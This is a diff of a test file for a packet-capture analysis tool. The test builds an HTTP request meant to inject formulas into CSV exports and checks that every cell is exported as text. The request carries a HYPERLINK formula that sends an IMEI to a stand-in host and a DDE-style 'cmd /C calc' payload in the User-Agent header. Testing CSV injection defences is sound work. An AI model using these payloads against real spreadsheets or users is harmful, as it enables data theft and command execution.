@@ -4,8 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { csvCell, findingsCsv } from '../../src/app/lib/exports';
-import { pcap } from '../capture/build';
-import { ascii, eth, ipv4, tcp } from '../decode/build';
+import { oneRequestPcap } from '../capture/build';
 import { analyzeFile } from '../pipeline';
 import { parseCsv } from '../csv';
 
@@ -52,17 +51,9 @@ describe('a capture built to inject formulas', () => {
   const URI = `=HYPERLINK("http://ev.co/?i=${IMEI}","open")`;
 
   function capture(): Uint8Array {
-    const req = ascii(`GET ${URI} HTTP/1.1\r\nHost: ${HOST}\r\nUser-Agent: @SUM(1+1)*cmd|' /C calc'!A0\r\nX-Device: +8618611428769\r\nX-Imei: ${IMEI}\r\n\r\n`);
-    const c = { sport: 40000, dport: 80 };
-    const s = { sport: 80, dport: 40000 };
-    const segs = [
-      tcp({ ...c, seq: 100, flags: 0x02 }),
-      tcp({ ...s, seq: 500, ack: 101, flags: 0x12 }),
-      tcp({ ...c, seq: 101, ack: 501, flags: 0x10 }),
-      tcp({ ...c, seq: 101, ack: 501, flags: 0x18 }, req),
-    ];
-    return pcap(true, 1, segs.map((t, i) => [i + 1, 0, eth(0x0800, ipv4({ proto: 6, ...(i === 1 ? { src: [10, 0, 0, 2], dst: [10, 0, 0, 1] } : {}) }, t))] as [number, number, Uint8Array]));
+    return oneRequestPcap(`GET ${URI} HTTP/1.1\r\nHost: ${HOST}\r\nUser-Agent: @SUM(1+1)*cmd|' /C calc'!A0\r\nX-Device: +8618611428769\r\nX-Imei: ${IMEI}\r\n\r\n`);
   }
+
 
   it('exports every cell as text', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'leakscope-csv-'));
